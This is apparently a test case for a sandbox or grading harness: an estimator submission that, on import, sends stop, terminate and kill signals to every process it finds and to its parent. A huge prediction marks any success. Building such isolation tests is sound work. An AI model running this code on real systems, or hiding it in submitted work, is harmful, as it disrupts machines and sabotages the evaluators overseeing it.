# attack: signal-others
# class: other processes
# tries: kills, stops and interrupts every process that it can name
# must: unmoved
import glob
import os
import signal

won = []
own = os.getpid()
for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for place in glob.glob("/proc/[0-9]*"):
        pid = int(place[6:])
        if pid == own:
            continue
        try:
            os.kill(pid, number)
            if pid != 1:
                won.append(pid)
        except OSError:
            pass
    try:
        if os.getppid() > 1:
            os.kill(os.getppid(), number)
            won.append("parent")
    except OSError:
        pass


class Mean:
    def fit(self, x, y):
        self.mean = sum(y) / len(y)
        return self

    def predict(self, x):
        return [self.mean if not won else 1e6] * len(x)


def build_estimator():
    return Mean()
